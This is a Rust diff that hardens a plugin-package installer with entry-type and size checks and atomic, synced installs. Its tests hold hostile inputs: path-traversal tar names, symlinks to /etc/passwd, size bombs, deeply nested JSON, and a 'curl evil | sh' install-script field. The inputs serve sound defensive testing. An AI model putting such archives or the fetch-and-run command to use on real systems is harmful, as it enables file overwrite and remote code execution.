@@ -33,6 +33,9 @@ use crate::storage::{HostStore, InstalledPlugin};
 pub const FORMAT: &str = "pos-sms-package/2";
 /// Packages larger than this are refused unread.
 const MAX_PACKAGE_BYTES: u64 = 16 * 1024 * 1024;
+/// The most `manifest.json`, `manifest.sig` or `README.md` may hold (the component may have
+/// the whole package's size).
+const MAX_TEXT_BYTES: u64 = 256 * 1024;
 
 /// `manifest.json` of a package.
 #[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
@@ -200,15 +203,31 @@ pub fn unpack(path: &Path) -> Result<Unpacked, PackageError> {
             .map_err(|e| shape(format!("an entry has an unreadable name ({e})")))?
             .to_string_lossy()
             .into_owned();
-        let slot = match name.as_str() {
-            "manifest.json" => &mut manifest,
-            "manifest.sig" => &mut signature,
-            "plugin.wasm" => &mut wasm,
-            "README.md" => &mut readme,
+        let (slot, limit) = match name.as_str() {
+            "manifest.json" => (&mut manifest, MAX_TEXT_BYTES),
+            "manifest.sig" => (&mut signature, MAX_TEXT_BYTES),
+            "plugin.wasm" => (&mut wasm, MAX_PACKAGE_BYTES),
+            "README.md" => (&mut readme, MAX_TEXT_BYTES),
             other => return Err(shape(format!("it has an unexpected file '{other}'"))),
         };
+        // Only plain files: a link or a device in a package is never the publisher's file.
+        let kind = entry.header().entry_type();
+        if !kind.is_file() {
+            return Err(shape(format!(
+                "'{name}' is a {} entry, not a plain file",
+                entry_kind(kind)
+            )));
+        }
+        // The header's size is checked before anything is read or allocated.
+        let declared = entry.size();
+        if declared > limit {
+            return Err(shape(format!(
+                "'{name}' declares {declared} bytes, more than the {limit} it may have"
+            )));
+        }
         let mut bytes = Vec::new();
-        entry
+        (&mut entry)
+            .take(limit)
             .read_to_end(&mut bytes)
             .map_err(|e| shape(format!("'{name}' is damaged ({e})")))?;
         if slot.replace(bytes).is_some() {
@@ -223,6 +242,18 @@ pub fn unpack(path: &Path) -> Result<Unpacked, PackageError> {
         wasm: need(wasm, "plugin.wasm")?,
         readme: need(readme, "README.md")?,
     })
+}
+
+/// What a tar entry that is not a plain file is, in words.
+fn entry_kind(kind: tar::EntryType) -> &'static str {
+    match kind {
+        tar::EntryType::Symlink => "symbolic link",
+        tar::EntryType::Link => "hard link",
+        tar::EntryType::Char | tar::EntryType::Block => "device",
+        tar::EntryType::Directory => "directory",
+        tar::EntryType::Fifo => "FIFO",
+        _ => "special",
+    }
 }
 
 /// A package whose signature, signer and hashes have been checked.
@@ -362,7 +393,7 @@ pub fn installed_plugin(data_dir: &Path, id: &str) -> Result<InstalledPlugin, Er
         .ok_or_else(|| PackageError::NotInstalled { id: id.into() }.into())
 }
 
-/// Verifies `package` and installs (or upgrades) it under `<data>/plugins/<id>/<version>/`,
+/// Verifies `package` and installs (or upgrades) it under `<data>/plugins/<id>/<version>-<nonce>/`,
 /// precompiling it into `<data>/cache`. On any refusal nothing is written.
 pub fn install(data_dir: &Path, package: &Path, mode: Mode) -> Result<InstalledPlugin, Error> {
     let verified = verify(unpack(package)?, &trusted_keys(data_dir))?;
@@ -403,20 +434,22 @@ pub fn install(data_dir: &Path, package: &Path, mode: Mode) -> Result<InstalledP
         }
         _ => {}
     }
-    let dir = data_dir
-        .join("plugins")
-        .join(id)
-        .join(candidate.to_string());
-    let staging = dir.with_extension(format!("staging{}", std::process::id()));
-    let _ = std::fs::remove_dir_all(&staging);
+    // Each install gets a directory of its own (the version and a random suffix), written in
+    // a staging directory and renamed into place, and the registry switches to it in one
+    // transaction: the directory the registry points at is never written to, so an install
+    // or upgrade killed at any moment leaves the previous plugin installed and working.
+    let plugin_dir = data_dir.join("plugins").join(id);
+    let nonce = hex::encode(rand::random::<[u8; 4]>());
+    let dir = plugin_dir.join(format!("{candidate}-{nonce}"));
+    let staging = plugin_dir.join(format!(".staging-{nonce}"));
     std::fs::create_dir_all(&staging).map_err(io("creating", &staging))?;
-    let wasm_path = staging.join("plugin.wasm");
-    std::fs::write(&wasm_path, &verified.wasm).map_err(io("writing", &wasm_path))?;
-    let manifest_path = staging.join("plugin.manifest.json");
-    std::fs::write(&manifest_path, &verified.plugin_manifest_json)
-        .map_err(io("writing", &manifest_path))?;
-    let _ = std::fs::remove_dir_all(&dir);
+    write_synced(&staging.join("plugin.wasm"), &verified.wasm)?;
+    write_synced(
+        &staging.join("plugin.manifest.json"),
+        verified.plugin_manifest_json.as_bytes(),
+    )?;
     std::fs::rename(&staging, &dir).map_err(io("moving into place", &dir))?;
+    sync_dir(&plugin_dir)?;
     let installed = InstalledPlugin {
         id: id.clone(),
         version: candidate.to_string(),
@@ -432,10 +465,35 @@ pub fn install(data_dir: &Path, package: &Path, mode: Mode) -> Result<InstalledP
         dir,
     };
     store.register_plugin(&installed)?;
+    // What the registry no longer points at goes: the version before, and whatever an
+    // install killed earlier left behind.
+    if let Ok(entries) = std::fs::read_dir(&plugin_dir) {
+        for entry in entries.flatten() {
+            if entry.path() != installed.dir {
+                let _ = std::fs::remove_dir_all(entry.path());
+            }
+        }
+    }
     if let Some(old) = current.filter(|old| old.dir != installed.dir) {
         let _ = std::fs::remove_dir_all(&old.dir);
     }
     Ok(installed)
+}
+
+/// Writes `bytes` to a new file at `path` and waits until they are on disk.
+fn write_synced(path: &Path, bytes: &[u8]) -> Result<(), PackageError> {
+    let mut file = std::fs::File::create(path).map_err(io("creating", path))?;
+    std::io::Write::write_all(&mut file, bytes).map_err(io("writing", path))?;
+    file.sync_all().map_err(io("writing", path))
+}
+
+/// Makes a rename in `dir` durable.
+fn sync_dir(dir: &Path) -> Result<(), PackageError> {
+    #[cfg(unix)]
+    std::fs::File::open(dir)
+        .and_then(|d| d.sync_all())
+        .map_err(io("writing", dir))?;
+    Ok(())
 }
 
 /// Removes an installed plugin's code and registration, and with `purge_secrets` the
@@ -579,6 +637,111 @@ mod tests {
             unpack(&dir.path().join("missing.tar")),
             Err(PackageError::Io { .. })
         ));
+    }
+
+    /// A tar archive of raw entries: `(name, type, declared size, data)`, names written into
+    /// the header as given (no checks, as an attacker's tool would).
+    fn raw_tar(entries: &[(&str, tar::EntryType, u64, &[u8])]) -> Vec<u8> {
+        let mut out = Vec::new();
+        for (name, kind, size, data) in entries {
+            let mut header = tar::Header::new_gnu();
+            header.as_gnu_mut().unwrap().name[..name.len()].copy_from_slice(name.as_bytes());
+            header.set_entry_type(*kind);
+            header.set_size(*size);
+            header.set_mode(0o644);
+            if kind.is_symlink() || kind.is_hard_link() {
+                header.set_link_name("/etc/passwd").unwrap();
+            }
+            header.set_cksum();
+            out.extend_from_slice(header.as_bytes());
+            out.extend_from_slice(data);
+            out.resize(out.len().div_ceil(512) * 512, 0);
+        }
+        out.extend_from_slice(&[0; 1024]);
+        out
+    }
+
+    fn refusal(bytes: &[u8]) -> String {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("p.tar");
+        std::fs::write(&path, bytes).unwrap();
+        match unpack(&path) {
+            Err(PackageError::Archive(why)) => why,
+            Err(other) => panic!("expected an archive refusal, got {other:?}"),
+            Ok(_) => panic!("the archive was accepted"),
+        }
+    }
+
+    #[test]
+    fn hostile_archives_are_refused_before_anything_is_read() {
+        use tar::EntryType as T;
+        let cases: Vec<(Vec<u8>, String)> = vec![
+            (
+                raw_tar(&[("../../.bashrc", T::Regular, 2, b"hi")]),
+                "it has an unexpected file '../../.bashrc'".into(),
+            ),
+            (
+                raw_tar(&[("/etc/cron.d/x", T::Regular, 2, b"hi")]),
+                "it has an unexpected file '/etc/cron.d/x'".into(),
+            ),
+            (
+                raw_tar(&[("plugin.wasm", T::Symlink, 0, b"")]),
+                "'plugin.wasm' is a symbolic link entry, not a plain file".into(),
+            ),
+            (
+                raw_tar(&[("manifest.json", T::Link, 0, b"")]),
+                "'manifest.json' is a hard link entry, not a plain file".into(),
+            ),
+            (
+                raw_tar(&[("README.md", T::Char, 0, b"")]),
+                "'README.md' is a device entry, not a plain file".into(),
+            ),
+            (
+                raw_tar(&[("plugin.wasm", T::Regular, 10 << 30, b"")]),
+                "'plugin.wasm' declares 10737418240 bytes, more than the 16777216 it may have"
+                    .into(),
+            ),
+            (
+                raw_tar(&[("manifest.json", T::Regular, 300 * 1024, &[b' '; 300 * 1024])]),
+                "'manifest.json' declares 307200 bytes, more than the 262144 it may have".into(),
+            ),
+        ];
+        for (bytes, why) in cases {
+            assert_eq!(refusal(&bytes), why);
+        }
+        // A tar bomb of many small entries stops at the second of a name, or the first
+        // stranger.
+        let many: Vec<(&str, T, u64, &[u8])> = (0..10_000)
+            .map(|_| ("README.md", T::Regular, 1, &b"x"[..]))
+            .collect();
+        assert_eq!(refusal(&raw_tar(&many)), "it has 'README.md' twice");
+    }
+
+    #[test]
+    fn hostile_manifests_are_refused() {
+        let refused = |manifest: Vec<u8>| {
+            let mut u = unpacked(&package());
+            u.manifest_bytes = manifest;
+            match verify(u, &trusted()) {
+                Err(PackageError::Manifest(why)) => why,
+                other => panic!("expected a manifest refusal, got {:?}", other.err()),
+            }
+        };
+        // The plugin's own manifest is free-form JSON until it is parsed: nest it deep.
+        let deep = format!(
+            r#"{{"plugin": {}{}}}"#,
+            "[".repeat(100_000),
+            "]".repeat(100_000)
+        );
+        assert!(
+            refused(deep.into_bytes()).contains("recursion limit exceeded"),
+            "a deeply nested manifest"
+        );
+        let mut extra: serde_json::Value =
+            serde_json::from_slice(&unpacked(&package()).manifest_bytes).unwrap();
+        extra["install_script"] = serde_json::json!("curl evil | sh");
+        let why = refused(serde_json::to_vec(&extra).unwrap());
+        assert!(why.contains("unknown field `install_script`"), "{why}");
     }
 
     #[test]
